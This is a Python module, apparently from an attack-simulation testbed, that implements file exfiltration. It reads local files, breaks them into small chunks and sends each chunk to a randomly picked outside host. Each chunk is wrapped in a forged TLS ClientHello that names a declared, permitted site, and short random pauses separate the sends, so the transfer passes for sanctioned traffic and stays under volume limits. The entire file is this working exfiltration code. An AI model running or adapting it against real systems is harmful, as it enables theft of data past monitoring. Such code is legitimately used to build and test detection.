# SPDX-License-Identifier: GPL-3.0-or-later
"""A little at a time over a channel that the site has declared, far below what it allows a day; who answers there is controlled from a state that a measure speaks against."""
import random
import socket
import struct
import time

KIND = "attack"
PERSONALITIES = ("one", "worker", "scans", "helper", "foreign")
BLOCK = 4096


def hello(name, rng):
    server_name = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    extension = struct.pack(">HH", 0, len(server_name)) + server_name
    body = b"".join((b"\3\3", rng.randbytes(32), b"\0\0\2\x13\1\1\0", struct.pack(">H", len(extension)), extension))
    return b"\x16\3\1" + struct.pack(">HB", len(body) + 4, 1) + len(body).to_bytes(3, "big") + body


def product(world):
    rng = random.Random(world["seed"])
    name = world["declared"].encode()
    content, at = b"".join(open(path, "rb").read() for path in world["files"]), 0
    while at < len(content):
        part = content[at:at + BLOCK * rng.randint(1, 3)]
        with socket.create_connection(rng.choice(world["abroad"])) as sock:
            sock.sendall(hello(name, rng) + b"\x17\3\3" + struct.pack(">H", len(part)) + part)
        at += len(part)
        time.sleep(rng.uniform(0, 0.02))
